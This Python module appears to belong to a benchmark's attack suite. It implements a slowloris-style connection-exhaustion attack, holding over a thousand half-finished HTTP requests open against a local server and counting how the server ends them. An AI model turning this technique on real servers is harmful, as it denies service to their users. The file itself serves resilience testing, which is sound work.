"""Requests that never become whole: heads without an end, bodies that do not come, and as many connections as
there are files.
"""

from __future__ import annotations

import asyncio
from collections import Counter

from bench.attack.place import Held, Place, lasting

HALVES = (
    b"GET / HTTP/1.1\r\nHost: x\r\nX-Half: ",
    b"POST /api/people HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{",
)


async def attack(place: Place, seconds: float = 14.0, count: int = 1100, enough: int = 0) -> Held:
    """Open so many at once and leave them half."""
    ends: Counter[str] = Counter()
    halves = [_half(place, HALVES[number % 2], ends) for number in range(count)]
    await lasting(seconds, asyncio.gather(*halves), lambda: 0 < enough <= ends.total())
    return Held(f"{sum(ends.values())} of {count} ended by the server", {"ends": ends})


async def _half(place: Place, text: bytes, ends: Counter[str]) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", place.port, local_addr=(place.home, 0))
        try:
            writer.write(text)
            said = await reader.readline()
            ends[said.decode().strip() or "nothing"] += 1
        finally:
            writer.transport.abort()
    except OSError as error:
        ends[type(error).__name__] += 1
